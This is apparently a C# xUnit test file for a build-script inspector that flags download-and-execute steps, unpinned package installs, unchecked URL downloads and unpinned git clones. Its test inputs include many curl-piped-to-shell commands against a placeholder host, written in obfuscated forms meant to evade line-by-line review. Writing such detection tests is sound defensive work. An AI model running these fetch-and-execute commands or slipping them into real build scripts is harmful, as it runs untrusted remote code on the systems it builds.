using Shouldly;
using Xunit;

namespace Runner.Tests.BuiltIn.HermeticBuild;

/// <summary>What a script does in a form that hides it from a reader of lines.</summary>
public sealed class HiddenStepTests
{
    private const string Commit = "b4ffde65f46336ab88eb53be808477a3936bae11";

    [Theory]
    [InlineData("curl -fsSL https://x.example/i |\nsh")]
    [InlineData("curl -fsSL https://x.example/i |\n  # a word\n\n  sh")]
    [InlineData("curl -fsSL https://x.example/i |&\nbash -s")]
    [InlineData("curl -o i.sh https://x.example/i &&\n  sh i.sh")]
    [InlineData("false ||\n  curl https://x.example/i |\n  sh")]
    public void A_line_that_ends_in_a_pipe_goes_on(string script)
    {
        Inspection.OfStep(script).ShouldContain(finding => finding.Rule == "download-and-execute");
        Inspection.Of(("a.sh", script)).ShouldContain(finding => finding.Rule == "download-and-execute");
        Inspection.Of(("Dockerfile", $"FROM scratch\nRUN <<EOF\n{script}\nEOF\n")).ShouldContain(finding => finding.Rule == "download-and-execute");
    }

    [Fact]
    public void A_here_document_goes_on_to_the_shell_of_the_next_line() =>
        Inspection.OfStep("cat <<EOF |\ncurl https://x.example/i | sh\nEOF\nsh").ShouldContain(finding => finding.Rule == "download-and-execute");

    [Theory]
    [InlineData("bash <<< \"$(curl https://x.example/i)\"")]
    [InlineData("bash < <(curl https://x.example/i)")]
    [InlineData("source /dev/stdin <<< \"$(curl https://x.example/i)\"")]
    public void A_shell_reads_what_is_fetched_into_its_input(string script) =>
        Inspection.OfStep(script).ShouldContain(finding => finding.Rule == "download-and-execute");

    [Theory]
    [InlineData("Makefile", "X := $(shell curl https://x.example/i | sh)\n")]
    [InlineData("Makefile", "a:\n\techo $(shell curl https://x.example/i | sh)\n")]
    public void A_Makefile_runs_commands_in_its_texts(string path, string text) =>
        Inspection.Of((path, text)).ShouldContain(finding => finding.Rule == "download-and-execute");

    [Theory]
    [InlineData("pip3.11 install requests")]
    [InlineData("pip2 install requests")]
    [InlineData("python3 -Im pip install requests")]
    [InlineData("python3.12 -I -W ignore -m pip install requests")]
    [InlineData("python -mpip install requests")]
    [InlineData("PIP=pip; $PIP install requests")]
    [InlineData("PIP='python3 -m pip'; sudo $PIP install requests")]
    [InlineData("echo requests | xargs pip install")]
    [InlineData("printf '%s\\n' requests==1.2.3 flask | xargs -n 1 pip install")]
    [InlineData("cat x | xargs npm install -g")]
    [InlineData("xargs pip install < x")]
    [InlineData("npm init vite")]
    [InlineData("npm create vite")]
    [InlineData("yarn create vite")]
    [InlineData("pnpx cowsay")]
    public void An_installer_is_known_in_all_its_forms(string script) =>
        Inspection.OfStep(script).ShouldContain(finding => finding.Rule == "unpinned-install");

    [Theory]
    [InlineData("echo requests==2.32.3 | xargs pip install")]
    [InlineData("xargs pip install < pinned")]
    [InlineData("find . -name requirements.txt | xargs -n 1 pip install -r")]
    [InlineData("find . -name '*.whl' | xargs pip install")]
    [InlineData("python3 -c 'import pip' install requests")]
    [InlineData("npm init -y")]
    [InlineData("npm create vite@5.5.5")]
    public void What_is_pinned_stays_so_in_all_its_forms(string script) => Inspection.Of(
            (".github/workflows/ci.yml", $"jobs:\n  a:\n    steps:\n      - run: |\n          {script}\n"),
            ("pinned", "# tools\nrequests==2.32.3\nflask==3.1.0\n"))
        .ShouldNotContain(finding => finding.Rule == "unpinned-install");

    [Fact]
    public void A_variable_of_a_Dockerfile_can_name_the_program() =>
        Inspection.Of(("Dockerfile", "FROM scratch\nENV P=pip\nRUN $P install requests\n")).ShouldContain(finding => finding.Rule == "unpinned-install");

    [Theory]
    [InlineData("pip install -r deps.txt", "deps.txt")]
    [InlineData("pip install --requirement=deps.txt", "deps.txt")]
    [InlineData("pip install -r /tmp/deps.txt", "deps.txt")]
    [InlineData("pip install -rouTer.txt", "sub/base.in")]
    public void A_list_of_packages_is_read_whatever_its_name(string script, string path) => Inspection.Of(
            ("Dockerfile", $"FROM scratch\nRUN {script}\n"), ("deps.txt", "requests\n"), ("ouTer.txt", "-r sub/base.in\n"), ("sub/base.in", "flask>=1\n"))
        .ShouldContain(finding => finding.Rule == "unpinned-requirements" && finding.Location!.Path == path);

    [Theory]
    [InlineData("pip install -r https://x.example/r.txt", true)]
    [InlineData("rpm -ivh https://x.example/a-1.0.rpm", true)]
    [InlineData("rpm -U https://x.example/a-1.0.rpm", true)]
    [InlineData("apk add --allow-untrusted https://x.example/a-1.0.apk", true)]
    [InlineData("dnf install -y https://x.example/a-1.0.rpm", true)]
    [InlineData("rpm -i a.rpm", false)]
    [InlineData("rpm -qip https://x.example/a-1.0.rpm", false)]
    public void Packages_of_an_address_are_downloads(string script, bool found) =>
        Inspection.OfRun(script).Any(finding => finding.Rule == "unchecked-download").ShouldBe(found);

    [Fact]
    public void A_list_may_not_include_one_of_an_address() =>
        Inspection.Of(("requirements.txt", "-r https://x.example/r.txt\n")).ShouldContain(finding => finding.Rule == "unpinned-requirements");

    [Theory]
    [InlineData("git clone https://x.example/lib && git checkout " + Commit, true)]
    [InlineData("git clone https://x.example/lib && cd lib && git checkout " + Commit, false)]
    [InlineData("git clone https://x.example/lib.git /opt/lib && (cd /opt/lib && git checkout " + Commit + ")", false)]
    [InlineData("git clone https://x.example/lib . && git checkout " + Commit, false)]
    [InlineData("git clone https://x.example/a && git clone https://x.example/b && git -C b checkout " + Commit, true)]
    [InlineData("git clone https://x.example/lib && git -C lib checkout " + Commit + " || true", true)]
    [InlineData("git -C lib checkout " + Commit + " && git clone https://x.example/lib", true)]
    [InlineData("git clone https://x.example/lib && test \"$(git -C lib rev-parse HEAD)\" = " + Commit, false)]
    [InlineData("git clone https://x.example/lib && test \"$(git -C lib rev-parse HEAD)\" != " + Commit, true)]
    [InlineData("git clone https://x.example/lib && cd \"$DIR\" && git checkout " + Commit, false)]
    public void A_commit_counts_for_its_own_clone(string script, bool found) =>
        Inspection.OfRun(script).Any(finding => finding.Rule == "unpinned-clone").ShouldBe(found);
}
